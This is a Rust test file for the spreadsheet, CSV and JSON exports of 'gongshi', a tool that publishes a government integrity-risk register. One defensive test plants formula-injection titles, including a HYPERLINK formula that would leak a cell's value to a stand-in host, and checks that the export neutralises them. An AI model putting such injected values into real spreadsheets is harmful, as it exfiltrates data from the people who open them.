//! Exports (#10): `register.xlsx`, `register.csv`, `data.json` with its
//! schema — in every version folder and through `gongshi export`.

use crate::common;

use calamine::{Data, Reader};
use common::site::{base_copy, gongshi};
use serde_json::Value;
use std::io::Read;
use std::path::{Path, PathBuf};

fn repo() -> &'static str {
    env!("CARGO_MANIFEST_DIR")
}

/// `gongshi export` of the example site into `dir`; returns the file.
fn export(dir: &Path, format: &str, scope: &str) -> PathBuf {
    export_from(Path::new(repo()), dir, format, scope)
}

/// `gongshi export` of the site at `root` into `dir`; returns the file.
fn export_from(root: &Path, dir: &Path, format: &str, scope: &str) -> PathBuf {
    let out = dir.join(format!("x-{scope}.{format}"));
    let out_s = out.to_str().unwrap();
    let r = gongshi(&[
        "--root",
        root.to_str().unwrap(),
        "export",
        "--format",
        format,
        "--scope",
        scope,
        "-o",
        out_s,
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    out
}

/// Every sheet of a workbook as rows of cell texts.
fn sheets(path: &Path) -> Vec<(String, Vec<Vec<String>>)> {
    let mut wb = calamine::open_workbook_auto(path).unwrap();
    wb.sheet_names()
        .into_iter()
        .map(|name| {
            let range = wb.worksheet_range(&name).unwrap();
            let rows = range
                .rows()
                .map(|r| r.iter().map(cell_text).collect())
                .collect();
            (name, rows)
        })
        .collect()
}

fn cell_text(d: &Data) -> String {
    match d {
        Data::Float(f) if f.fract() == 0.0 => format!("{}", *f as i64),
        other => other.to_string(),
    }
}

fn zip_part(path: &Path, part: &str) -> String {
    let bytes = std::fs::read(path).unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    zip.by_name(part)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

fn risk_files() -> usize {
    std::fs::read_dir(Path::new(repo()).join("content/risks"))
        .unwrap()
        .filter(|e| {
            let p = e.as_ref().unwrap().path();
            p.extension().is_some_and(|x| x == "md")
                && p.file_name().is_some_and(|n| n != "_index.md")
        })
        .count()
}

#[test]
fn workbook_has_a_sheet_per_kind_with_readable_cells() {
    let dir = tempfile::tempdir().unwrap();
    let x = export(dir.path(), "xlsx", "internal");
    let all = sheets(&x);
    let names: Vec<&str> = all.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["风险点", "职权", "岗位", "流程"]);
    let risks = &all[0].1;
    // a title row above the headings
    assert_eq!(
        risks[0][0],
        "某县自然资源和规划局岗位廉政风险点及防控措施公示　　公示范围：单位内部　　版本：2025"
    );
    assert_eq!(&risks[1][..4], ["编号", "风险点", "风险等级", "风险类型"]);
    assert_eq!(risks.len() - 2, risk_files(), "one row per risk");
    let col = |name: &str| risks[1].iter().position(|h| h == name).unwrap();
    let r1 = risks.iter().find(|r| r[0] == "R-001").unwrap();
    assert_eq!(r1[col("风险等级")], "二级");
    assert_eq!(r1[col("涉险岗位")], "审批员");
    assert_eq!(r1[col("责任科室")], "行政审批科");
    let m = &r1[col("防控措施")];
    assert!(m.starts_with("1、【前期预防·制度】在政务服务网"), "{m}");
    assert!(
        m.contains("\n3、【中期监控·监督】电子监察系统全程留痕\n4、"),
        "{m}"
    );
    // [[F-01]] in the body reads as the flow's title
    assert!(r1[col("风险表现")].contains("建设用地规划许可办理流程图"));
    assert!(!r1[col("风险表现")].contains("[["));
    let flows = &all[3].1;
    assert!(flows.iter().any(|r| r.contains(&"判断".to_string())));
}

#[test]
fn workbook_is_styled_frozen_and_coloured_by_grade() {
    let dir = tempfile::tempdir().unwrap();
    let x = export(dir.path(), "xlsx", "public");
    let sheet = zip_part(&x, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains(r#"ySplit="2""#) && sheet.contains(r#"state="frozen""#));
    assert!(sheet.contains("<autoFilter"));
    assert!(sheet.contains("<col ") && sheet.contains("customWidth"));
    assert!(
        sheet.contains("customHeight"),
        "wrapped rows get their height"
    );
    let styles = zip_part(&x, "xl/styles.xml");
    let config = std::fs::read_to_string(Path::new(repo()).join("gongshi.yaml")).unwrap();
    for colour in ["c62828", "b45309", "1565c0"] {
        assert!(config.contains(colour));
        assert!(
            styles.contains(&format!("FF{}", colour.to_uppercase())),
            "grade fill {colour}"
        );
    }
    assert!(styles.contains("FFFFFFFF"), "white text on dark grades");
    assert!(styles.contains(r#"wrapText="1""#));
    // printed: A4 landscape, one page wide, the header row on every page
    assert!(sheet.contains(r#"<pageSetUpPr fitToPage="1"/>"#), "{sheet}");
    assert!(sheet.contains(r#"paperSize="9""#) && sheet.contains(r#"fitToHeight="0""#));
    assert!(sheet.contains(r#"orientation="landscape""#));
    assert!(
        sheet.contains("<mergeCell ref=\"A1:"),
        "the title spans the columns"
    );
    let book = zip_part(&x, "xl/workbook.xml");
    assert!(book.contains("风险点!$2:$2</definedName>"), "{book}");
    let core = zip_part(&x, "docProps/core.xml");
    assert!(core.contains("<dcterms:created xsi:type=\"dcterms:W3CDTF\">2025-"));
}

#[test]
fn exports_are_the_same_bytes_in_two_builds_and_from_the_command() {
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    for out in [a.path(), b.path()] {
        let r = gongshi(&[
            "--root",
            repo(),
            "build",
            "--quiet",
            "--out",
            out.to_str().unwrap(),
        ]);
        assert_eq!(r.code, 0, "{}", r.stderr);
    }
    for scope in ["public", "internal"] {
        for f in [
            "register.xlsx",
            "register.csv",
            "data.json",
            "data.schema.json",
        ] {
            let p = Path::new(scope).join("2025").join(f);
            let x = std::fs::read(a.path().join(&p)).unwrap();
            let y = std::fs::read(b.path().join(&p)).unwrap();
            assert!(x == y, "{} differs between builds", p.display());
        }
        let cmd = export(a.path(), "xlsx", scope);
        let built = a.path().join(scope).join("2025/register.xlsx");
        assert_eq!(std::fs::read(cmd).unwrap(), std::fs::read(built).unwrap());
    }
    let register = std::fs::read_to_string(a.path().join("public/2025/risks/index.html")).unwrap();
    assert!(register.contains(r#"href="../register.xlsx""#));
    assert!(register.contains(r#"href="../register.csv""#));
}

#[test]
fn csv_has_a_bom_crlf_and_the_risk_sheet_cells() {
    let dir = tempfile::tempdir().unwrap();
    let c = export(dir.path(), "csv", "internal");
    let bytes = std::fs::read(&c).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "BOM");
    assert!(bytes.windows(2).any(|w| w == b"\r\n"));
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..]);
    let records: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    let x = export(dir.path(), "xlsx", "internal");
    let risk_sheet = &sheets(&x)[0].1;
    // the CSV has no title row: its heading row comes first
    assert_eq!(
        &records[..],
        &risk_sheet[1..],
        "CSV cells equal the 风险点 sheet"
    );
    assert!(records[1][1]
        .chars()
        .any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c)));
}

#[test]
fn public_export_leaves_out_internal_risks() {
    let dir = tempfile::tempdir().unwrap();
    let public = sheets(&export(dir.path(), "xlsx", "public"));
    let internal = sheets(&export(dir.path(), "xlsx", "internal"));
    assert!(public[0].1.len() < internal[0].1.len());
    let data: Value =
        serde_json::from_slice(&std::fs::read(export(dir.path(), "json", "public")).unwrap())
            .unwrap();
    assert_eq!(data["scope"], "public");
    assert_eq!(
        data["risks"].as_array().unwrap().len(),
        public[0].1.len() - 2
    );
}

#[test]
fn export_defaults_to_the_widest_audience_in_the_current_folder() {
    let dir = tempfile::tempdir().unwrap();
    let out = assert_cmd::Command::cargo_bin("gongshi")
        .unwrap()
        .current_dir(dir.path())
        .args(["--root", repo(), "export", "--format", "json"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let data: Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("data.json")).unwrap()).unwrap();
    assert_eq!(data["scope"], "public");
}

#[test]
fn export_refuses_broken_content_and_unknown_scopes() {
    let site = base_copy();
    let root = site.path().to_str().unwrap();
    let out = site.path().join("x.csv");
    let run = |scope: &[&str]| {
        let mut args = vec!["--root", root, "export", "--format", "csv"];
        args.extend_from_slice(scope);
        args.extend_from_slice(&["-o", out.to_str().unwrap()]);
        gongshi(&args)
    };
    let r = run(&["--scope", "nobody"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    std::fs::write(
        site.path().join("content/risks/R-BAD.md"),
        "---\ntitle: 坏\ntype: 不存在的类型\ngrade: 一级\n---\n",
    )
    .unwrap();
    let r = run(&[]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(!out.exists(), "nothing written on content errors");
}

#[test]
fn data_json_validates_against_its_schema() {
    let out = tempfile::tempdir().unwrap();
    let r = gongshi(&[
        "--root",
        repo(),
        "build",
        "--quiet",
        "--out",
        out.path().to_str().unwrap(),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    for scope in ["public", "internal"] {
        let dir = out.path().join(scope).join("2025");
        let read = |f: &str| -> Value {
            serde_json::from_slice(&std::fs::read(dir.join(f)).unwrap()).unwrap()
        };
        let (schema, data) = (read("data.schema.json"), read("data.json"));
        let mut errors = Vec::new();
        validate(&schema, &schema, &data, "$", &mut errors);
        assert!(errors.is_empty(), "{scope}: {errors:#?}");
        // the validator does reject what the schema forbids
        let mut bad = data.clone();
        bad["risks"][0]["grade"] = serde_json::json!(1);
        bad.as_object_mut().unwrap().remove("flows");
        let mut errors = Vec::new();
        validate(&schema, &schema, &bad, "$", &mut errors);
        assert_eq!(errors.len(), 2, "{errors:#?}");
    }
}

/// A small JSON Schema check for the keywords data.schema.json uses:
/// `$ref` (local), `allOf`, `oneOf`, `type`, `const`, `enum`, `required`,
/// `properties`, `items`, `minimum`, `maximum`, and `pattern` for the two
/// patterns it has (ids and dates).
fn validate(root: &Value, schema: &Value, v: &Value, at: &str, errors: &mut Vec<String>) {
    if let Some(r) = schema.get("$ref").and_then(Value::as_str) {
        let target = r
            .trim_start_matches("#/")
            .split('/')
            .fold(root, |s, k| &s[k]);
        validate(root, target, v, at, errors);
    }
    for s in schema
        .get("allOf")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
    {
        validate(root, s, v, at, errors);
    }
    if let Some(list) = schema.get("oneOf").and_then(Value::as_array) {
        let passing = list
            .iter()
            .filter(|s| {
                let mut e = Vec::new();
                validate(root, s, v, at, &mut e);
                e.is_empty()
            })
            .count();
        if passing != 1 {
            errors.push(format!("{at}: {passing} oneOf branches match"));
        }
    }
    if let Some(t) = schema.get("type") {
        let types: Vec<&str> = match t {
            Value::String(s) => vec![s.as_str()],
            Value::Array(a) => a.iter().filter_map(Value::as_str).collect(),
            _ => vec![],
        };
        let ok = types.iter().any(|t| match *t {
            "object" => v.is_object(),
            "array" => v.is_array(),
            "string" => v.is_string(),
            "integer" => v.is_i64() || v.is_u64(),
            "number" => v.is_number(),
            "boolean" => v.is_boolean(),
            "null" => v.is_null(),
            _ => false,
        });
        if !ok {
            errors.push(format!("{at}: not {types:?}"));
            return;
        }
    }
    if let Some(c) = schema.get("const") {
        if c != v {
            errors.push(format!("{at}: not {c}"));
        }
    }
    if let Some(e) = schema.get("enum").and_then(Value::as_array) {
        if !e.contains(v) {
            errors.push(format!("{at}: not one of {e:?}"));
        }
    }
    if let Some(p) = schema.get("pattern").and_then(Value::as_str) {
        let s = v.as_str().unwrap_or_default();
        let ok = if p.contains("[0-9]{4}") {
            gongshi::model::is_date(s)
        } else {
            gongshi::model::is_id(s)
        };
        if !ok {
            errors.push(format!("{at}: {s:?} does not match {p}"));
        }
    }
    if let Some(n) = v.as_f64() {
        if schema
            .get("minimum")
            .and_then(Value::as_f64)
            .is_some_and(|m| n < m)
            || schema
                .get("maximum")
                .and_then(Value::as_f64)
                .is_some_and(|m| n > m)
        {
            errors.push(format!("{at}: {n} out of range"));
        }
    }
    if let Some(obj) = v.as_object() {
        for k in schema
            .get("required")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
        {
            if !obj.contains_key(k.as_str().unwrap_or_default()) {
                errors.push(format!("{at}: missing {k}"));
            }
        }
        if let Some(props) = schema.get("properties").and_then(Value::as_object) {
            for (k, s) in props {
                if let Some(x) = obj.get(k) {
                    validate(root, s, x, &format!("{at}.{k}"), errors);
                }
            }
        }
    }
    if let (Some(items), Some(arr)) = (schema.get("items"), v.as_array()) {
        for (i, x) in arr.iter().enumerate() {
            validate(root, items, x, &format!("{at}[{i}]"), errors);
        }
    }
}

/// Item 7: a title that Excel would read as a formula (`=`, `+`, `-`, `@`,
/// tab, CR first) reaches `register.csv` with a leading `'`, as OWASP
/// advises; in `register.xlsx` it stays a plain string cell, never a
/// formula.
#[test]
fn item07_formula_looking_cells_are_neutralised() {
    let site = base_copy();
    let risk = site.path().join("content/risks/R-002.md");
    let text = std::fs::read_to_string(&risk).unwrap();
    let title = "=HYPERLINK(\"http://x.test/?\"&A1,\"点此\")";
    std::fs::write(
        &risk,
        text.replace(
            "title: 入户调查走过场、弄虚作假",
            "title: '=HYPERLINK(\"http://x.test/?\"&A1,\"点此\")'",
        )
        .replace("调查人员不入户", "@SUM(1+1) 调查人员不入户"),
    )
    .unwrap();
    let r3 = site.path().join("content/risks/R-003.md");
    let t3 = std::fs::read_to_string(&r3).unwrap();
    std::fs::write(&r3, t3.replace("title: 廉洁意识淡薄", "title: '-2+3'")).unwrap();
    let out = site.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let csv_path = export_from(site.path(), &out, "csv", "internal");
    let bytes = std::fs::read(&csv_path).unwrap();
    let records: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    let row = |id: &str| records.iter().find(|r| r[0] == id).unwrap().clone();
    assert_eq!(row("R-002")[1], format!("'{title}"));
    assert_eq!(row("R-003")[1], "'-2+3");
    let body = records[0].iter().position(|h| h == "风险表现").unwrap();
    assert!(
        row("R-002")[body].starts_with("'@SUM"),
        "{:?}",
        row("R-002")
    );
    // no cell of any record starts with a formula character
    for rec in &records {
        for cell in rec {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
    // the workbook: the same title as an inline string, no formula anywhere
    let xlsx_path = export_from(site.path(), &out, "xlsx", "internal");
    let sheet = zip_part(&xlsx_path, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
    assert!(
        sheet
            .contains("t=\"inlineStr\"><is><t>=HYPERLINK(\"http://x.test/?\"&amp;A1,\"点此\")</t>"),
        "{sheet}"
    );
    let risks = &sheets(&xlsx_path)[0].1;
    let r2 = risks.iter().find(|r| r[0] == "R-002").unwrap();
    assert_eq!(r2[1], title, "the workbook keeps the title as written");
}

/// Item 14: `export -o` never writes into the site's sources — a file
/// under `content/` or `gongshi.yaml` — also not through a link.
#[test]
fn item14_export_into_content_is_refused() {
    let site = base_copy();
    let root = site.path().to_str().unwrap();
    let before = common::site::hash_sources(site.path());
    let link = site.path().join("link.csv");
    #[cfg(unix)]
    std::os::unix::fs::symlink(site.path().join("content/risks/R-001.md"), &link).unwrap();
    for target in [
        site.path().join("content/risks/R-001.md"),
        site.path().join("content/register.csv"),
        site.path().join("gongshi.yaml"),
        site.path().join("content/../gongshi.yaml"),
        link.clone(),
    ] {
        if !cfg!(unix) && target == link {
            continue;
        }
        let r = gongshi(&[
            "--root",
            root,
            "export",
            "--format",
            "csv",
            "-o",
            target.to_str().unwrap(),
        ]);
        assert_eq!(r.code, 2, "{}: {}{}", target.display(), r.stdout, r.stderr);
        assert!(r.stderr.contains("不能写入站点的源文件"), "{}", r.stderr);
        assert_eq!(before, common::site::hash_sources(site.path()));
    }
    assert!(!site.path().join("content/register.csv").exists());
    // beside the sources is fine
    let ok = site.path().join("register.csv");
    let r = gongshi(&[
        "--root",
        root,
        "export",
        "--format",
        "csv",
        "-o",
        ok.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
}

/// The workbook is written row by row through the system's temporary
/// folder: when that folder cannot be written, the build stops with a
/// message naming it and how to choose another, and the site already
/// published stays as it was.
#[cfg(unix)]
#[test]
fn an_unwritable_temporary_folder_is_named_and_the_old_site_kept() {
    use assert_cmd::Command;
    let site = base_copy();
    let root = site.path().to_str().unwrap();
    assert_eq!(gongshi(&["--root", root, "build", "-q"]).code, 0);
    let page = site.path().join("site/public/2025/register.xlsx");
    let before = std::fs::read(&page).unwrap();
    let missing = site.path().join("no-such-tmp");
    let out = Command::cargo_bin("gongshi")
        .unwrap()
        .args(["--root", root, "build", "-q"])
        .env("TMPDIR", &missing)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("register.xlsx"), "{stderr}");
    assert!(stderr.contains(missing.to_str().unwrap()), "{stderr}");
    assert!(stderr.contains("TMPDIR"), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(
        std::fs::read(&page).unwrap(),
        before,
        "the old site was kept"
    );
}
